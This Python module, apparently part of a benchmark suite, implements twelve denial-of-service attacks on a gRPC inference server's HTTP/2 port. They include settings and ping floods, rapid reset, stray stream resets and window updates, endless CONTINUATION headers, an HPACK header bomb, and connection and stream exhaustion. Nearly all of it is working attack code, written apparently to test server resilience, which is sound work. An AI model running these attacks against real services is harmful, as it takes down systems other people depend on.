"""Attacks on the gRPC port. Each takes its address and the end of the attack on the monotonic clock."""

from __future__ import annotations

import itertools
import time
from collections.abc import Iterator

from benchmarks.attacks import http2
from benchmarks.attacks.sockets import Address, is_open, keep_open, sent, until_closed

CONNECTIONS = 400
STREAM_CONNECTIONS = 8
STREAMS = 2000
"""Calls that a connection begins; the server allows 256 at a time."""
BATCH = 1000
INFER = b"/inference.GRPCInferenceService/ModelInfer"
METADATA = b"/inference.GRPCInferenceService/ServerMetadata"
START = http2.PREFACE + http2.settings()
WHOLE = http2.END_HEADERS


def settings_flood(address: Address, deadline: float) -> None:
    """Settings without an end; the client reads none of the acknowledgements."""
    _repeat(address, deadline, START, itertools.repeat(http2.settings(_4=65535) * BATCH))


def ping_flood(address: Address, deadline: float) -> None:
    """Pings without an end; the client reads no answer."""
    _repeat(address, deadline, START, itertools.repeat(http2.frame(http2.PING, payload=bytes(8)) * BATCH))


def rapid_reset(address: Address, deadline: float) -> None:
    """Calls that are reset as soon as they have begun."""
    _repeat(address, deadline, START, _reset_calls())


def stray_resets(address: Address, deadline: float) -> None:
    """Resets of streams that never were."""
    reset = http2.CANCEL.to_bytes(4, "big")
    stray = b"".join(http2.frame(http2.RST_STREAM, stream=2 * n + 1, payload=reset) for n in range(BATCH))
    _repeat(address, deadline, START, itertools.repeat(stray))


def stray_window_updates(address: Address, deadline: float) -> None:
    """Windows for streams that never were."""
    more = (1).to_bytes(4, "big")
    stray = b"".join(http2.frame(http2.WINDOW_UPDATE, stream=2 * n + 1, payload=more) for n in range(BATCH))
    _repeat(address, deadline, START, itertools.repeat(stray))


def huge_header(address: Address, deadline: float) -> None:
    """A call whose header goes on in frames of 16 kB without an end."""
    first = http2.frame(http2.HEADERS, stream=1, payload=http2.call(INFER))
    more = http2.frame(http2.CONTINUATION, stream=1, payload=http2.field(b"a", b"b" * 16000))
    _repeat(address, deadline, START + first, itertools.repeat(more))


def empty_continuations(address: Address, deadline: float) -> None:
    """A call whose header goes on in empty frames without an end."""
    first = http2.frame(http2.HEADERS, stream=1, payload=http2.call(INFER))
    _repeat(address, deadline, START + first, itertools.repeat(http2.frame(http2.CONTINUATION, stream=1) * BATCH))


def header_bomb(address: Address, deadline: float) -> None:
    """A field of 4 kB in the server's table, named 16,000 times by a byte each."""
    keep = http2.frame(
        http2.HEADERS, WHOLE, 1, http2.call(INFER) + http2.indexed_field(b"a", b"b" * 3900)
    ) + http2.frame(http2.RST_STREAM, stream=1, payload=http2.CANCEL.to_bytes(4, "big"))
    bombs = (
        http2.frame(http2.HEADERS, WHOLE, 2 * number + 3, http2.call(INFER) + http2.NEWEST * 16000)
        for number in itertools.count()
    )
    _repeat(address, deadline, START + keep, bombs)


def silent_connections(address: Address, deadline: float) -> None:
    """400 connections that send nothing."""
    keep_open(address, CONNECTIONS, deadline, lambda one, _is_new: is_open(one))


def idle_connections(address: Address, deadline: float) -> None:
    """400 connections that begin HTTP/2, and no call."""
    start = START + http2.frame(http2.SETTINGS, http2.ACK)
    keep_open(address, CONNECTIONS, deadline, lambda one, is_new: sent(one, start if is_new else b""))


def slow_streams(address: Address, deadline: float) -> None:
    """Eight connections with two thousand calls each, whose bodies don't come."""
    calls = b"".join(http2.frame(http2.HEADERS, WHOLE, 2 * number + 1, http2.call(INFER)) for number in range(STREAMS))
    keep_open(address, STREAM_CONNECTIONS, deadline, lambda one, is_new: sent(one, START + calls if is_new else b""))


def unread_answers(address: Address, deadline: float) -> None:
    """Eight connections with calls whose answers the client gives no window for."""
    body = http2.frame(http2.DATA, http2.END_STREAM, 1, bytes(5))
    start = http2.PREFACE + http2.settings(_4=0)
    calls = b"".join(
        http2.frame(http2.HEADERS, WHOLE, 2 * number + 1, http2.call(METADATA)) + _to_stream(body, 2 * number + 1)
        for number in range(STREAMS)
    )
    keep_open(address, STREAM_CONNECTIONS, deadline, lambda one, is_new: sent(one, start + calls if is_new else b""))


def _reset_calls() -> Iterator[bytes]:
    reset = http2.CANCEL.to_bytes(4, "big")
    for first in itertools.count(0, BATCH):
        streams = range(2 * first + 1, 2 * (first + BATCH) + 1, 2)
        yield b"".join(
            http2.frame(http2.HEADERS, WHOLE, stream, http2.call(INFER))
            + http2.frame(http2.RST_STREAM, stream=stream, payload=reset)
            for stream in streams
        )


def _to_stream(one: bytes, stream: int) -> bytes:
    return one[:5] + stream.to_bytes(4, "big") + one[9:]


def _repeat(address: Address, deadline: float, start: bytes, pieces: Iterator[bytes]) -> None:
    """Attack on one connection after the other, without reading."""
    while time.monotonic() < deadline:
        until_closed(address, itertools.chain([start], pieces), deadline)


GRPC_ATTACKS = (
    settings_flood,
    ping_flood,
    rapid_reset,
    stray_resets,
    stray_window_updates,
    huge_header,
    empty_continuations,
    header_bomb,
    silent_connections,
    idle_connections,
    slow_streams,
    unread_answers,
)
